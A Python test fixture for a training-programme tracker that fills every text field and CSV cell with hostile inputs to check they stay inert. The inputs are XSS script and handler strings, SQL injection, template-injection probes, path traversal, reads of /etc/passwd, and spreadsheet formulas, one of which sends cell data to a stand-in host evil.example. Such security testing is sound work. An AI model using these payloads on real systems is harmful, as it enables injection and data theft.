"""A programme in which every text is an attack: one of each sort, in every field that takes words."""

from collections.abc import Iterator, Sequence
from datetime import date

from sos_tracker.actions import publication
from sos_tracker.records.access import Actor, GroupAccess, Role
from sos_tracker.records.budget import BudgetLine, EntryKind, LedgerEntry
from sos_tracker.records.changes import BatchFile
from sos_tracker.records.milestones import Milestone
from sos_tracker.records.people import PersonKeyer
from sos_tracker.records.practice_leads import PracticeLeadPost
from sos_tracker.records.programme import Programme
from sos_tracker.records.record_set import RecordSet
from sos_tracker.records.targets import StrategyTarget
from sos_tracker.records.training import (
    Attendance,
    CourseLevel,
    Outcome,
    PartnerHeadcount,
    SessionStatus,
    StaffMember,
    TrainingSession,
)
from sos_tracker.store import Store

CODE = "HOSTILE"
AS_AT = date(2018, 5, 31)
SORTS = {
    "script": "</td></script><script>window.canary='script'</script>",
    "handler": "\"'><img src=x onerror=\"window.canary='handler'\"><svg onload=\"window.canary='svg'\">",
    "style": "</style><style>body{background:url(https://evil.example/style)}</style>",
    "sql": "Robert'); DROP TABLE programme;-- \" OR 1=1",
    "typst": '#read("/etc/passwd") #import "@preview/evil:1.0.0": * $x$ <label> @cite \\ [*b*]',
    "jinja": "{{7*191}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %} ${7*191} #{7*191}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "markdown": "![x](https://evil.example/m.png) [here](javascript:window.canary='link') $\\frac{1}{2}$ :red[b] `c`",
    "entity": "&lt;script&gt;window.canary='entity'&lt;/script&gt; &#x3c;b&#x3e;",
}
EVALUATED = "1337"
"""What a template that was run would have made of 7*191."""

SCRIPT, HANDLER = SORTS["script"], SORTS["handler"]
ACTOR = Actor(f"Zed {HANDLER}", Role.ADMINISTRATOR, CODE)
FILE_NAMES = tuple(f"{text}.csv" for text in SORTS.values())


def plant(store: Store, keyer: PersonKeyer) -> str:
    """Writes the programme, publishes it, and returns the secret of a link to the edition."""
    programme = Programme(
        code=CODE, name=f"Signs {SCRIPT}", authority=f"Council {HANDLER}", notice=SORTS["markdown"], usual_as_at=AS_AT,
        public_papers=True,
    )  # fmt: skip
    store.add_programme(programme, ACTOR)
    files = tuple(BatchFile(name, f"{number:064}", ("register",), 1) for number, name in enumerate(FILE_NAMES))
    records = RecordSet(
        sessions=tuple(_sessions()), attendances=tuple(_attendances(keyer)), headcounts=tuple(_headcounts()),
        staff=tuple(_staff(keyer)), posts=tuple(_posts()), **_plans(),
    )  # fmt: skip
    meanings = {text.casefold()[:200]: "attended" for text in SORTS.values()}
    store.commit(CODE, records, ACTOR, files, reason=SCRIPT, meanings=meanings)
    for text in SORTS.values():
        store.give_group_access(CODE, GroupAccess(group=text, role=Role.MEMBER), ACTOR, reason=HANDLER)
    publication.publish(store, ACTOR, AS_AT, reason=SCRIPT)
    return publication.share(store, ACTOR, 1, 30, reason=HANDLER).token


def _sessions() -> Iterator[TrainingSession]:
    for number, text in enumerate(SORTS.values()):
        yield TrainingSession(
            reference=text, level=CourseLevel.INTRODUCTION, course=text, starts_on=date(2018, 1 + number % 5, 10),
            status=SessionStatus.DELIVERED, venue=text, trainer=text, places=20,
        )  # fmt: skip


def _attendances(keyer: PersonKeyer) -> Iterator[Attendance]:
    for number, text in enumerate(SORTS.values()):
        for person in range(8):
            yield Attendance(
                session=text, person=keyer.keys(f"{number}-{person}", None), agency=text, team=text, job_role=text,
                outcome=list(Outcome)[person % 5],
            )  # fmt: skip


def _headcounts() -> Iterator[PartnerHeadcount]:
    for text in SORTS.values():
        yield PartnerHeadcount(session=text, agency=text, attended=12)


def _staff(keyer: PersonKeyer) -> Iterator[StaffMember]:
    for number, text in enumerate(SORTS.values()):
        for person in range(10):
            yield StaffMember(
                person=keyer.keys(f"{number}-{person}", None), agency=text, team=text, job_role=text,
                in_scope=person < 9, started_on=date(2015, 1, 5),
            )  # fmt: skip


def _posts() -> Iterator[PracticeLeadPost]:
    for number, text in enumerate(SORTS.values()):
        filled = number % 3 > 0
        yield PracticeLeadPost(
            agency=text,
            team=text,
            filled=filled,
            starts_on=date(2018, 1, 8),
            trained=number % 3 == 1 if filled else None,
        )


def _plans() -> dict[str, Sequence[object]]:
    lines = [
        BudgetLine(code=text, title=text, approved_pence=10_000_00, profile=((date(2018, 1, 1), 5_000_00),))
        for text in SORTS.values()
    ]
    entries = [
        LedgerEntry(posted_on=date(2018, 2, 1 + number), line=text, supplier=text, narrative=text, reference=text,
                    entry_kind=list(EntryKind)[number % 2], amount_pence=1_000_00)
        for number, text in enumerate(SORTS.values())
    ]  # fmt: skip
    milestones = [
        Milestone(reference=text, title=text, domain=text, owner=text, comment=text, baseline_on=date(2018, 2, 1),
                  forecast_on=date(2018, 7, 1) if number % 2 else None,
                  achieved_on=None if number % 2 else date(2018, 3, 1))
        for number, text in enumerate(SORTS.values())
    ]  # fmt: skip
    targets = [
        StrategyTarget(measure=measure, name=text, is_rate=is_rate, baseline_on=date(2017, 10, 1), target=target,
                       due_on=date(2018, 12, 31), approved_by=text, approved_on=date(2017, 9, 29), reason=text)
        for (measure, target, is_rate), text in zip(
            (("T1", 8000, False), ("T3", 1, True), ("L1", 1, True)), SORTS.values(), strict=False)
    ]  # fmt: skip
    return {"budget_lines": lines, "ledger_entries": entries, "milestones": milestones, "targets": targets}


def register() -> bytes:
    """A learning system's own file, every cell of which is one of them."""
    quoted = [f'"{text.replace(chr(34), chr(34) * 2)}"' for text in SORTS.values()]
    rows = [
        f"{number},{number}@example.org,{text},{text},{text},Introduction (2 days),03/04/2018,{status}"
        for number, text in enumerate(quoted)
        for status in ("Attended", text)
    ]
    heading = "Employee No,Email,Agency,Team,Session Ref,Course,Start Date,Status"
    return "\n".join([heading, *rows]).encode()
